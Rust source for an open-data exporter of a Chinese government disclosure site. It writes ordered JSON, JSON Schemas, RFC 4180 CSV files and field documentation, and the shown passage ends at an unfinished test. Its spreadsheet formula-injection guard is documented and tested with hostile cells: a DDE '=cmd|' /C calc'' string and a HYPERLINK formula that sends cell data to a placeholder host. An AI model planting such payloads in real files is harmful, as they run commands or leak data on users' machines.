//! Open data under `/data/`: one JSON file per kind (an array of objects), a JSON Schema
//! (draft 2020-12) beside each, CSV files for the tabular data (fees, enforcement decisions,
//! permit materials), and `index.json` listing them.
//!
//! The kinds' field tables (each field's `open`, plus the few derived entries beside them; see
//! `schema::open_fields`) are the single source of the JSON files' field order, of their
//! schemas and of the field reference in `docs/open-data.md` (generated, checked by a test);
//! only the index file's own tables are here.
//! Every field is always present; optional ones are `null` when unset. Dates are
//! `YYYY-MM-DD`; instants (a consultation's opening and closing) RFC 3339 with the site's
//! offset; texts written in Markdown are given as plain text. What is left out: hidden
//! enforcement decisions (withdrawn, changed, about minors, past their display period) and
//! drafts; a natural person's name only in its masked form (as validated), without a code;
//! the 留言人 (`asker`) of replies.

use super::{content_date, exported_of, org_of, sections};
use crate::content::view::{attachments, date, ViewCx};
use crate::content::{Kind, Record, Site};
use crate::facts::{Cx, Facts};
use crate::plan::Output;
use crate::urls::{absolute, record_url};
use serde::Serialize;
use serde_json::{json, Value};
use std::fmt::Write;

use crate::schema::{ex as f, ex_null as n, open_fields};
pub use crate::schema::{OpenField as F, OpenTy as Ty};

/// The fields every exported record has, in order (from the common field table).
pub fn common_fields() -> Vec<F> {
    use crate::content::kinds::{COMMON, COMMON_DERIVED};
    open_fields(COMMON, COMMON_DERIVED)
}

/// The kind's own fields (after the common ones), from its field table.
pub fn kind_fields(kind: Kind) -> Vec<F> {
    open_fields(kind.fields(), kind.open_derived())
}

/// Every top-level field of a kind's objects, in order.
pub fn fields(kind: Kind) -> Vec<F> {
    let mut fs = common_fields();
    fs.extend(kind_fields(kind));
    fs
}

/// A tabular file: name, title, columns (Chinese header, JSON field it mirrors).
pub struct Csv {
    pub name: &'static str,
    pub title: &'static str,
    pub kind: Kind,
    pub columns: &'static [(&'static str, &'static str)],
}

/// The CSV files.
pub static CSVS: &[Csv] = &[
    Csv {
        name: "fees",
        title: "收费标准（每个收费标准一行）",
        kind: Kind::Fee,
        columns: &[
            ("收费项目编号", "id"),
            ("收费项目名称", "title"),
            ("收费标准项目", "standards[].item"),
            ("金额（元）", "standards[].amount"),
            ("计费单位", "standards[].unit"),
            ("备注", "standards[].note"),
            ("缴费对象", "payer"),
            ("收费依据", "basis[].title (doc_no), joined with ；"),
            ("发布日期", "published"),
            ("网址", "url"),
            (
                "上级收费标准项目",
                "standards[].item of a sub-item's parent (empty on other rows)",
            ),
            ("标准形式", "standards[].form"),
            ("收费标准", "standards[].display"),
            ("最低金额（元）", "standards[].min"),
            ("最高金额（元）", "standards[].max"),
            ("费率", "standards[].rate"),
            ("费率单位", "standards[].rate_unit"),
            ("计费基数", "standards[].rate_of"),
            ("收费标准（文字）", "standards[].text"),
            (
                "本项依据",
                "standards[].basis[] as in 收费依据, joined with ；",
            ),
        ],
    },
    Csv {
        name: "enforcement",
        title: "行政执法决定（每个决定一行）",
        kind: Kind::Enforcement,
        columns: &[
            ("决定书文号", "case_no"),
            ("案件名称", "title"),
            ("执法类别", "action"),
            ("当事人类型", "party.type"),
            ("当事人名称", "party.name"),
            ("统一社会信用代码", "party.credit_code"),
            ("罚款金额（元）", "fine"),
            ("决定日期", "decided"),
            ("执法机关", "authority"),
            ("发布日期", "published"),
            ("索引号", "index_no"),
            ("网址", "url"),
            ("案由", "cause"),
            ("法定代表人", "party.legal_rep (masked)"),
            ("住所", "party.address (empty for a natural person)"),
            ("救济途径", "remedy"),
            ("被复议的决定", "reviews: the id of the decision reviewed"),
            ("不予公开的原因", "withheld"),
            (
                "标明为重大执法决定",
                "the record's own major: true (是; empty otherwise and when withheld; the derived value is 重大执法决定)",
            ),
            ("法制审核机构", "legal_review.office"),
            ("法制审核提交日期", "legal_review.submitted"),
            ("法制审核日期", "legal_review.reviewed"),
            ("法制审核意见", "legal_review.opinion"),
            ("法制审核延期理由", "legal_review.extension"),
            ("执法人员", "officers[] as entered, joined with ；"),
            ("双随机抽查计划", "plan: the id of the spot-check plan"),
            (
                "重大执法决定",
                "major as derived (是 when the record or a rule of site.toml makes it one; empty otherwise and when withheld)",
            ),
            ("重大执法决定情形", "major_rule (empty when none applies)"),
            (
                "处罚种类",
                "penalties[] as entered, joined with ； (empty when not entered: 未注明)",
            ),
            ("没收违法所得金额（元）", "confiscated"),
            ("许可结果", "permit_result (empty when not entered: 未注明)"),
        ],
    },
    Csv {
        name: "report-cells",
        title: "政府信息公开年报和行政执法统计年报（每个统计单元格一行）",
        kind: Kind::Report,
        columns: &[
            ("报告年度", "year"),
            ("报告类型", "report"),
            ("单元格", "cells[].id"),
            ("表格", "cells[].table"),
            ("行", "cells[].row"),
            ("列", "cells[].column"),
            ("数值", "cells[].value (empty: 未注明)"),
            ("系统统计数", "cells[].computed"),
            ("人工调整原因", "cells[].override_reason"),
            ("来源", "cells[].source"),
            ("计数的记录", "cells[].records[] (URLs), joined with ；"),
            ("网址", "url"),
        ],
    },
    Csv {
        name: "permit-materials",
        title: "行政许可申请材料目录（每项材料一行）",
        kind: Kind::Permit,
        columns: &[
            ("事项编号", "id"),
            ("事项名称", "title"),
            ("序号", "materials[].n"),
            ("材料名称", "materials[].name"),
            ("份数", "materials[].copies"),
            ("原件或复印件", "materials[].original (原件/复印件)"),
            ("是否必需", "materials[].required (必需/视情况提供)"),
            ("备注", "materials[].note"),
            ("网址", "url"),
        ],
    },
];

/// A record as an exported object (keys as in [`fields`]).
pub fn object(site: &Site, facts: &Facts, r: &Record) -> Value {
    let mut v = json!({
        "id": r.id,
        "url": absolute(site, &record_url(site, r)),
        "title": r.common.title,
        "index_no": r.common.public_index_no(),
        "doc_no": r.common.doc_no,
        "category": r.common.category,
        "organization": org_of(site, r),
        "published": date(r.common.published),
        "updated": date(r.common.updated),
        "summary": r.common.summary,
        "tags": r.common.tags,
        "attachments": attachments(site, r, &r.common.attachments),
    });
    let own = r.data.open_data(&ViewCx { site, facts, r });
    if let (Value::Object(m), Value::Object(o)) = (&mut v, own) {
        m.extend(o);
    }
    v
}

/// An exported object's shape: its fields in order, each with the shape of the objects it
/// holds (made once per data file from the field table, then used for every record).
pub(crate) struct Shape(Vec<(&'static str, Nested)>);

enum Nested {
    Scalar,
    Obj(Shape),
    List(Shape),
}

impl Shape {
    pub(crate) fn of(fields: &[F]) -> Shape {
        Shape(
            fields
                .iter()
                .map(|f| {
                    let nested = match f.ty {
                        Ty::Obj(fs, d) => Nested::Obj(Shape::of(&open_fields(fs, d))),
                        Ty::ObjList(fs, d) => Nested::List(Shape::of(&open_fields(fs, d))),
                        _ => Nested::Scalar,
                    };
                    (f.name, nested)
                })
                .collect(),
        )
    }
}

/// A value in an exported object, serialized in the order of its [`Shape`]: every field
/// present (`null` when the hook gave none), keys no field exports left out.
struct Ordered<'a> {
    v: &'a Value,
    shape: &'a Shape,
}

impl serde::Serialize for Ordered<'_> {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeMap;
        if self.v.is_null() {
            return s.serialize_unit();
        }
        let mut m = s.serialize_map(Some(self.shape.0.len()))?;
        for (name, nested) in &self.shape.0 {
            let v = self.v.get(name).unwrap_or(&Value::Null);
            m.serialize_entry(name, &Member { v, nested })?;
        }
        m.end()
    }
}

/// One field's value: an object or a list of objects in their shape, anything else as it is.
struct Member<'a> {
    v: &'a Value,
    nested: &'a Nested,
}

impl serde::Serialize for Member<'_> {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        match (self.v, self.nested) {
            (Value::Object(_), Nested::Obj(shape)) => Ordered { v: self.v, shape }.serialize(s),
            (Value::Array(a), Nested::List(shape)) => {
                s.collect_seq(a.iter().map(|v| Ordered { v, shape }))
            }
            (v, _) => v.serialize(s),
        }
    }
}

/// serde_json's pretty format (two spaces, `": "`), starting `level` levels in: a record's
/// object is written alone exactly as it sits inside its data file's array, so that the
/// file can be made (and, in the preview, updated) from per-record fragments.
struct Pretty {
    level: usize,
    has_value: bool,
}

impl Pretty {
    fn at(level: usize) -> Pretty {
        Pretty {
            level,
            has_value: false,
        }
    }

    fn indent<W: ?Sized + std::io::Write>(&self, w: &mut W) -> std::io::Result<()> {
        (0..self.level).try_for_each(|_| w.write_all(b"  "))
    }

    fn open<W: ?Sized + std::io::Write>(&mut self, w: &mut W, c: &[u8]) -> std::io::Result<()> {
        self.level += 1;
        self.has_value = false;
        w.write_all(c)
    }

    fn close<W: ?Sized + std::io::Write>(&mut self, w: &mut W, c: &[u8]) -> std::io::Result<()> {
        self.level = self.level.saturating_sub(1);
        if self.has_value {
            w.write_all(b"\n")?;
            self.indent(w)?;
        }
        w.write_all(c)
    }

    fn item<W: ?Sized + std::io::Write>(&mut self, w: &mut W, first: bool) -> std::io::Result<()> {
        w.write_all(if first { b"\n" } else { b",\n" })?;
        self.indent(w)
    }
}

impl serde_json::ser::Formatter for Pretty {
    fn begin_array<W: ?Sized + std::io::Write>(&mut self, w: &mut W) -> std::io::Result<()> {
        self.open(w, b"[")
    }
    fn end_array<W: ?Sized + std::io::Write>(&mut self, w: &mut W) -> std::io::Result<()> {
        self.close(w, b"]")
    }
    fn begin_array_value<W: ?Sized + std::io::Write>(
        &mut self,
        w: &mut W,
        first: bool,
    ) -> std::io::Result<()> {
        self.item(w, first)
    }
    fn end_array_value<W: ?Sized + std::io::Write>(&mut self, _w: &mut W) -> std::io::Result<()> {
        self.has_value = true;
        Ok(())
    }
    fn begin_object<W: ?Sized + std::io::Write>(&mut self, w: &mut W) -> std::io::Result<()> {
        self.open(w, b"{")
    }
    fn end_object<W: ?Sized + std::io::Write>(&mut self, w: &mut W) -> std::io::Result<()> {
        self.close(w, b"}")
    }
    fn begin_object_key<W: ?Sized + std::io::Write>(
        &mut self,
        w: &mut W,
        first: bool,
    ) -> std::io::Result<()> {
        self.item(w, first)
    }
    fn begin_object_value<W: ?Sized + std::io::Write>(&mut self, w: &mut W) -> std::io::Result<()> {
        w.write_all(b": ")
    }
    fn end_object_value<W: ?Sized + std::io::Write>(&mut self, _w: &mut W) -> std::io::Result<()> {
        self.has_value = true;
        Ok(())
    }
}

/// `v` in the order of `shape`, pretty-printed `level` levels in (without the indentation of
/// its first line).
fn ordered_text(v: &Value, shape: &Shape, level: usize, out: &mut Vec<u8>) {
    let mut ser = serde_json::Serializer::with_formatter(out, Pretty::at(level));
    // Serializing a `Value` into memory cannot fail.
    let _ = Ordered { v, shape }.serialize(&mut ser);
}

/// How many records' objects are made together (in parallel) before their text is appended:
/// the file's text is the only large thing held, not a JSON value per record.
const WAVE: usize = 2048;

/// A record's object in its kind's data file, as the file holds it (indented by 2).
pub(crate) fn json_fragment(site: &Site, facts: &Facts, shape: &Shape, r: &Record) -> String {
    let mut t = b"  ".to_vec();
    ordered_text(&object(site, facts, r), shape, 1, &mut t);
    String::from_utf8(t).unwrap_or_default()
}

/// A data file's text from its objects' fragments: the array serde_json's pretty format
/// writes around them (checked by a test), without holding every record's value at once.
pub(crate) fn json_file<S: AsRef<str>>(fragments: impl Iterator<Item = S>) -> String {
    json_file_in(String::new(), fragments)
}

/// [`json_file`] written into `out` (empty, with the capacity the caller expects to need).
fn json_file_in<S: AsRef<str>>(mut out: String, mut fragments: impl Iterator<Item = S>) -> String {
    let Some(first) = fragments.next() else {
        return "[]\n".to_string();
    };
    out.push_str("[\n");
    out.push_str(first.as_ref());
    for t in fragments {
        out.push_str(",\n");
        out.push_str(t.as_ref());
    }
    out.push_str("\n]\n");
    out
}

/// The JSON text of a kind's data file.
pub fn data_json(site: &Site, facts: &Facts, kind: Kind) -> (String, usize) {
    use rayon::prelude::*;
    let shape = Shape::of(&fields(kind));
    let records: Vec<&Record> = exported_of(site, facts, kind).collect();
    // The fragments made in parallel a wave at a time (the next wave only when the file has
    // taken the last one's).
    let mut waves = records.chunks(WAVE).map(|wave| {
        wave.par_iter()
            .map(|r| json_fragment(site, facts, &shape, r))
            .collect::<Vec<String>>()
    });
    let first = waves.next().unwrap_or_default();
    // The file's size guessed from the first wave, with a margin, so that a large file is not
    // grown by doubling (at the last doubling the old and the new buffer are both held: on a
    // large site, hundreds of MB at the build's peak). A guess too small only costs that
    // doubling; room reserved and never written is never touched.
    let per_record = first.iter().map(|f| f.len() + 2).sum::<usize>() / first.len().max(1);
    let guess = per_record.saturating_mul(records.len()).saturating_mul(5) / 4 + 16;
    let text = json_file_in(
        String::with_capacity(guess),
        first.into_iter().chain(waves.flatten()),
    );
    (text, records.len())
}

fn field_schema(fd: &F) -> Value {
    let mut s = type_schema(&fd.ty);
    if fd.null {
        s = match s {
            Value::Object(mut m) => {
                if let Some(Value::String(t)) = m.get("type").cloned() {
                    m.insert("type".into(), json!([t, "null"]));
                }
                if let Some(Value::Array(mut e)) = m.get("enum").cloned() {
                    e.push(Value::Null);
                    m.insert("enum".into(), Value::Array(e));
                }
                Value::Object(m)
            }
            other => other,
        };
    }
    if let Value::Object(m) = &mut s {
        m.insert("title".into(), json!(fd.zh));
        m.insert("description".into(), json!(fd.en));
    }
    s
}

fn object_schema(fs: &[F]) -> Value {
    let props: serde_json::Map<String, Value> = fs
        .iter()
        .map(|fd| (fd.name.to_string(), field_schema(fd)))
        .collect();
    json!({
        "type": "object",
        "additionalProperties": false,
        "required": fs.iter().map(|fd| fd.name).collect::<Vec<_>>(),
        "properties": props,
    })
}

fn type_schema(ty: &Ty) -> Value {
    match ty {
        Ty::Str => json!({"type": "string"}),
        Ty::Int => json!({"type": "integer", "minimum": 0}),
        Ty::Num => json!({"type": "number"}),
        Ty::Bool => json!({"type": "boolean"}),
        Ty::Date => {
            json!({"type": "string", "format": "date", "pattern": "^[0-9]{4}-[0-9]{2}-[0-9]{2}$"})
        }
        Ty::DateTime => json!({"type": "string", "format": "date-time"}),
        Ty::Url => json!({"type": "string", "format": "uri"}),
        Ty::StrList => json!({"type": "array", "items": {"type": "string"}}),
        Ty::UrlList => json!({"type": "array", "items": {"type": "string", "format": "uri"}}),
        Ty::Enum(vals) => json!({"type": "string", "enum": vals}),
        Ty::EnumList(vals) => json!({"type": "array", "items": {"type": "string", "enum": vals}}),
        Ty::Obj(fs, d) => object_schema(&open_fields(fs, d)),
        Ty::ObjList(fs, d) => json!({"type": "array", "items": object_schema(&open_fields(fs, d))}),
    }
}

/// The JSON Schema of a kind's data file.
pub fn schema(site: &Site, kind: Kind) -> Value {
    let base = site.config.base_path();
    json!({
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "$id": absolute(site, &format!("{base}data/{}.schema.json", kind.folder())),
        "title": format!("{} · {}", kind.label(), site.config.title),
        "description": format!("Open data: every published record of the kind `{}` ({}). Field reference: docs/open-data.md.", kind.name(), kind.label()),
        "type": "array",
        "items": object_schema(&fields(kind)),
    })
}

static DATASET: &[F] = &[
    f("id", Ty::Str, "标识", "File name without its extension."),
    f("title", Ty::Str, "名称", "Title of the data set."),
    f(
        "format",
        Ty::Enum(&["json", "csv"]),
        "格式",
        "`json` or `csv`.",
    ),
    f(
        "media_type",
        Ty::Str,
        "媒体类型",
        "Media type to serve the file with.",
    ),
    f("url", Ty::Url, "网址", "Absolute URL of the file."),
    n(
        "schema",
        Ty::Url,
        "数据结构说明",
        "Absolute URL of the JSON Schema of a JSON file; `null` for CSV.",
    ),
    f(
        "records",
        Ty::Int,
        "记录数",
        "Objects (JSON) or data rows (CSV).",
    ),
    n(
        "updated",
        Ty::Date,
        "更新日期",
        "Newest 发布日期 or 更新日期 among the records.",
    ),
];

static INDEX: &[F] = &[
    f("title", Ty::Str, "名称", "Title of the site's open data."),
    f(
        "publisher",
        Ty::Str,
        "发布机构",
        "Organisation that publishes the data.",
    ),
    f("homepage", Ty::Url, "网站首页", "Absolute URL of the site."),
    f(
        "datasets",
        Ty::ObjList(&[], DATASET),
        "数据集",
        "Every data file.",
    ),
];

fn index_schema(site: &Site) -> Value {
    let base = site.config.base_path();
    let mut s = object_schema(&open_fields(&[], INDEX));
    if let Value::Object(m) = &mut s {
        m.insert(
            "$schema".into(),
            json!("https://json-schema.org/draft/2020-12/schema"),
        );
        m.insert(
            "$id".into(),
            json!(absolute(site, &format!("{base}data/index.schema.json"))),
        );
        m.insert("title".into(), json!("Open data index"));
    }
    s
}

/// RFC 4180 field: quoted when it holds a comma, quote, CR or LF. A text a spreadsheet would
/// run as a formula is neutralised first ([`neutralise_formula`]).
pub fn csv_field(s: &str) -> String {
    if s.is_empty() {
        // Alone on a line, the csv crate writes an empty field as `""` (so that the line is
        // not blank); among others it is empty, as here.
        return String::new();
    }
    csv_lines(&[vec![s.to_string()]])
        .trim_end_matches("\r\n")
        .to_string()
}

/// Spreadsheet formula injection (CWE-1236): Excel, WPS and LibreOffice run a cell that
/// begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula,
/// and a record's text (a fee's note, a party's name) could be `=HYPERLINK(…)` or
/// `=cmd|'/C calc'!A0`. Such a cell gets a leading `'`, which spreadsheets show as text and
/// hide. A number (`-5`, `+3.5`, `-1e3`) is left alone: it is not a formula, and stays a
/// number; dates (`2026-11-20`) and the other cells never begin with these characters.
pub fn neutralise_formula(s: &str) -> std::borrow::Cow<'_, str> {
    let risky = s
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && !is_plain_number(s) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

/// `-5`, `+3.50`, `-1e3`: an optional sign, digits with at most one point, an optional
/// exponent; nothing else.
fn is_plain_number(s: &str) -> bool {
    let s = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exponent) = match s.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
        None => (s, None),
    };
    let (int, frac) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |t: &str| t.bytes().all(|b| b.is_ascii_digit());
    !(int.is_empty() && frac.is_empty())
        && digits(int)
        && digits(frac)
        && exponent.is_none_or(|e| !e.is_empty() && digits(e))
}

/// The rows of a CSV file (without the header).
/// The rows one record gives a CSV file.
fn csv_rows(site: &Site, r: &Record) -> Vec<Vec<String>> {
    r.data
        .csv_rows(site, r, &absolute(site, &record_url(site, r)))
}

/// CSV lines: RFC 4180 quoting (by the `csv` crate), CRLF, each cell neutralised first
/// ([`neutralise_formula`]).
fn csv_lines(rows: &[Vec<String>]) -> String {
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .flexible(true)
        .buffer_capacity(1024)
        .from_writer(Vec::new());
    for row in rows {
        // Writing to memory cannot fail, and `flexible` allows rows of any width.
        let _ = w.write_record(row.iter().map(|c| neutralise_formula(c).into_owned()));
    }
    let bytes = w.into_inner().unwrap_or_default();
    String::from_utf8(bytes).unwrap_or_default()
}

/// A record's lines in its kind's CSV file (none, one or several) and how many.
pub(crate) fn csv_fragment(site: &Site, r: &Record) -> (String, usize) {
    let rows = csv_rows(site, r);
    (csv_lines(&rows), rows.len())
}

/// The start of a CSV file: a byte-order mark (for Excel) and the header line.
pub(crate) fn csv_head(csv: &Csv) -> String {
    let header: Vec<String> = csv.columns.iter().map(|c| c.0.to_string()).collect();
    format!("\u{feff}{}", csv_lines(&[header]))
}

/// A CSV file's bytes: UTF-8 with a byte-order mark (for Excel), CRLF, RFC 4180 quoting.
pub fn csv_text(site: &Site, facts: &Facts, csv: &Csv) -> (String, usize) {
    csv_text_each(site, facts, csv, &mut |_, _, _| {})
}

/// [`csv_text`], handing each record's lines and row count to `each` as well.
pub(crate) fn csv_text_each(
    site: &Site,
    facts: &Facts,
    csv: &Csv,
    each: &mut dyn FnMut(&Record, &str, usize),
) -> (String, usize) {
    let mut out = csv_head(csv);
    let mut n = 0;
    for r in exported_of(site, facts, csv.kind) {
        let (lines, rows) = csv_fragment(site, r);
        out.push_str(&lines);
        each(r, &lines, rows);
        n += rows;
    }
    (out, n)
}

fn pretty(v: &Value) -> String {
    serde_json::to_string_pretty(v).unwrap_or_else(|_| "null".into()) + "\n"
}

/// Every open-data file.
pub fn files(cx: Cx) -> Vec<Output> {
    let mut out = Vec::new();
    files_with(cx, None, &mut |o| out.push(o));
    out
}

/// [`files`], handing each file to `emit` as soon as it is made, so that a large site's data
/// files are not all in memory at once; with `live`, the data and CSV files are made from
/// per-record fragments kept there, to be updated in place after a one-record edit
/// ([`super::live::LiveData`]).
pub(crate) fn files_with(
    cx: Cx,
    mut live: Option<&mut super::live::LiveData>,
    emit: &mut dyn FnMut(Output),
) {
    let Cx { site, facts, .. } = cx;
    let base = site.config.base_path();
    let abs = |name: &str| absolute(site, &format!("{base}data/{name}"));
    let mut datasets = Vec::new();
    let updated = |kind: Kind| {
        exported_of(site, facts, kind)
            .filter_map(content_date)
            .max()
            .map(|d| d.to_string())
    };
    for kind in sections() {
        let (text, count) = match live.as_deref_mut() {
            Some(l) => l.data_json(site, facts, kind),
            None => data_json(site, facts, kind),
        };
        let name = kind.folder();
        emit(Output::Bytes {
            path: format!("data/{name}.json"),
            bytes: text.into_bytes(),
        });
        emit(Output::Bytes {
            path: format!("data/{name}.schema.json"),
            bytes: pretty(&schema(site, kind)).into_bytes(),
        });
        datasets.push(json!({
            "id": name, "title": kind.label(), "format": "json", "media_type": "application/json",
            "url": abs(&format!("{name}.json")), "schema": abs(&format!("{name}.schema.json")),
            "records": count, "updated": updated(kind),
        }));
    }
    for (i, csv) in CSVS.iter().enumerate() {
        let (text, count) = match live.as_deref_mut() {
            Some(l) => l.csv_text(site, facts, i),
            None => csv_text(site, facts, csv),
        };
        emit(Output::Bytes {
            path: format!("data/{}.csv", csv.name),
            bytes: text.into_bytes(),
        });
        datasets.push(json!({
            "id": csv.name, "title": csv.title, "format": "csv", "media_type": "text/csv; charset=utf-8; header=present",
            "url": abs(&format!("{}.csv", csv.name)), "schema": null,
            "records": count, "updated": updated(csv.kind),
        }));
    }
    let index = json!({
        "title": format!("{} 开放数据", site.config.title),
        "publisher": site.config.organization.name,
        "homepage": absolute(site, &base),
        "datasets": datasets,
    });
    let mut text = Vec::new();
    ordered_text(&index, &Shape::of(&open_fields(&[], INDEX)), 0, &mut text);
    text.push(b'\n');
    emit(Output::Bytes {
        path: "data/index.json".into(),
        bytes: text,
    });
    emit(Output::Bytes {
        path: "data/index.schema.json".into(),
        bytes: pretty(&index_schema(site)).into_bytes(),
    });
}

fn type_doc(ty: &Ty) -> String {
    match ty {
        Ty::Str => "string".into(),
        Ty::Int => "integer".into(),
        Ty::Num => "number".into(),
        Ty::Bool => "boolean".into(),
        Ty::Date => "date (`YYYY-MM-DD`)".into(),
        Ty::DateTime => "date-time (RFC 3339)".into(),
        Ty::Url => "URL".into(),
        Ty::StrList => "array of string".into(),
        Ty::UrlList => "array of URL".into(),
        Ty::Enum(v) => format!("one of {}", v.join(" / ")),
        Ty::EnumList(v) => format!("array of {}", v.join(" / ")),
        Ty::Obj(..) => "object (below)".into(),
        Ty::ObjList(..) => "array of object (below)".into(),
    }
}

fn doc_rows(fs: &[F], prefix: &str, out: &mut String) {
    for fd in fs {
        let name = format!("{prefix}{}", fd.name);
        let _ = writeln!(
            out,
            "| `{name}` | {} | {} | {}{} |",
            fd.zh,
            type_doc(&fd.ty),
            if fd.null { "may be `null`. " } else { "" },
            fd.en.replace('|', "\\|")
        );
        match fd.ty {
            Ty::Obj(sub, d) => doc_rows(&open_fields(sub, d), &format!("{name}."), out),
            Ty::ObjList(sub, d) => doc_rows(&open_fields(sub, d), &format!("{name}[]."), out),
            _ => {}
        }
    }
}

/// The generated field reference of `docs/open-data.md`.
pub fn field_reference() -> String {
    let mut out = String::new();
    out.push_str("### Common fields (every JSON data set)\n\n");
    out.push_str("| field | 中文 | type | meaning |\n|---|---|---|---|\n");
    doc_rows(&common_fields(), "", &mut out);
    for kind in sections() {
        let _ = writeln!(
            out,
            "\n### `data/{}.json` — {}\n",
            kind.folder(),
            kind.label()
        );
        out.push_str("| field | 中文 | type | meaning |\n|---|---|---|---|\n");
        doc_rows(&kind_fields(kind), "", &mut out);
    }
    out.push_str("\n### `data/index.json` — 数据目录\n\n");
    out.push_str("| field | 中文 | type | meaning |\n|---|---|---|---|\n");
    doc_rows(&open_fields(&[], INDEX), "", &mut out);
    for csv in CSVS {
        let _ = writeln!(out, "\n### `data/{}.csv` — {}\n", csv.name, csv.title);
        out.push_str("| column | JSON field |\n|---|---|\n");
        for (h, j) in csv.columns {
            let _ = writeln!(out, "| {h} | `{j}` |");
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::content::kinds::fee::number;

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_numbers_kept() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
                "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"",
            ),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+86 717 1234567", "'+86 717 1234567"),
            ("-1+2", "'-1+2"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("-", "'-"),
            ("-5", "-5"),
            ("+3.50", "+3.50"),
            ("-1e3", "-1e3"),
            ("1200", "1200"),
            ("2026-11-20", "2026-11-20"),
            ("按次", "按次"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_field(cell), written, "{cell}");
        }
    }

    #[test]
    fn csv_fields_are_quoted_as_rfc_4180_says() {
        assert_eq!(csv_field("a"), "a");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("a\nb"), "\"a\nb\"");
    }

    #[test]
    fn numbers_drop_a_zero_fraction() {
        assert_eq!(number(5000.0), "5000");
        assert_eq!(number(12.5), "12.5");
    }

    #[test]
    fn objects_are_written_in_field_order_with_missing_fields_null() {
        static FS: &[F] = &[
            f("b", Ty::Str, "乙", "b"),
            n(
                "a",
                Ty::Obj(
                    crate::content::kinds::ATTACHMENT,
                    crate::content::kinds::ATTACHMENT_DERIVED,
                ),
                "甲",
                "a",
            ),
            f("c", Ty::StrList, "丙", "c"),
            f("d", Ty::StrList, "丁", "d"),
            n("e", Ty::Num, "戊", "e"),
        ];
        let v = json!({"a": {"url": "u/v", "title": "t", "x": 1}, "c": [], "d": ["一", "\u{7}"], "e": 0.5, "z": 1});
        let mut out = Vec::new();
        ordered_text(&v, &Shape::of(FS), 0, &mut out);
        assert_eq!(
            String::from_utf8(out).unwrap_or_default(),
            "{\n  \"b\": null,\n  \"a\": {\n    \"title\": \"t\",\n    \"url\": \"u/v\"\n  },\n  \"c\": [],\n  \"d\": [\n    \"一\",\n    \"\\u0007\"\n  ],\n  \"e\": 0.5\n}"
        );
    }

    /// A data file made of fragments is what serde_json's pretty printer writes for the array
    /// of the same objects, and a fragment is the object as that array holds it.
    #[test]
    fn fragments_join_into_the_pretty_printed_array() {
        static FS: &[F] = &[f("k", Ty::Str, "键", "k"), f("l", Ty::StrList, "列", "l")];
        let shape = Shape::of(FS);
        let objects = [
            json!({"k": "一", "l": ["a", "b"]}),
            json!({"k": "二", "l": []}),
        ];
        let fragment = |v: &Value| {
            let mut t = b"  ".to_vec();
            ordered_text(v, &shape, 1, &mut t);
            String::from_utf8(t).unwrap_or_default()
        };
        let file = json_file(objects.iter().map(fragment));
        let whole = serde_json::to_string_pretty(&objects).unwrap_or_default() + "\n";
        assert_eq!(file, whole);
        assert_eq!(json_file(std::iter::empty::<String>()), "[]\n");
    }

    /// The objects carry exactly the documented fields (the writer would silently drop others).
    #[test]
    fn objects_of_the_example_site_have_exactly_the_documented_fields() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
        let Ok((site, _)) = crate::content::load_site(root, &Default::default()) else {
            panic!("the example site loads")
        };
        let Ok(cal) = crate::calendar::Calendar::load(root) else {
            panic!("calendar")
        };
        let now = "2026-11-25T02:00:00Z".parse().unwrap_or_else(|_| panic!());
        let (facts, _) = crate::facts::facts(&site, &cal, &crate::facts::BuildTime { now });
        let mut seen = 0;
        for kind in sections() {
            let want: Vec<&str> = fields(kind).iter().map(|f| f.name).collect();
            for r in exported_of(&site, &facts, kind) {
                let v = object(&site, &facts, r);
                let mut got: Vec<&str> = v
                    .as_object()
                    .map(|m| m.keys().map(String::as_str).collect())
                    .unwrap_or_default();
                let mut w = want.clone();
                got.sort_unstable();
                w.sort_unstable();
                assert_eq!(got, w, "{}", r.key());
                seen += 1;
            }
        }
        assert!(seen > 30);
    }

    /// Every placed open-data entry (`.after(…)`, `.first()`) sits where it says, in every
    /// object of every kind (nested ones too): no anchor is misspelt or missing.
    #[test]
    fn every_placed_entry_sits_after_its_anchor() {
        use crate::schema::{open_fields, At, Field};
        fn check(fs: &[Field], d: &[F], path: &str) {
            let all = open_fields(fs, d);
            let entries = fs.iter().filter(|f| f.open.is_some()).count() + d.len();
            assert_eq!(all.len(), entries, "{path}");
            for (i, o) in all.iter().enumerate() {
                match o.at {
                    At::First => assert!(
                        all[..i].iter().all(|x| x.at == At::First),
                        "{path}.{}",
                        o.name
                    ),
                    At::After(a) => assert_eq!(
                        i.checked_sub(1).map(|j| all[j].name),
                        Some(a),
                        "{path}.{}",
                        o.name
                    ),
                    At::Here => {}
                }
                if let Ty::Obj(sub, sd) | Ty::ObjList(sub, sd) = o.ty {
                    check(sub, sd, &format!("{path}.{}", o.name));
                }
            }
        }
        check(
            crate::content::kinds::COMMON,
            crate::content::kinds::COMMON_DERIVED,
            "common",
        );
        for kind in sections() {
            check(kind.fields(), kind.open_derived(), kind.name());
        }
        check(&[], INDEX, "index");
    }

    #[test]
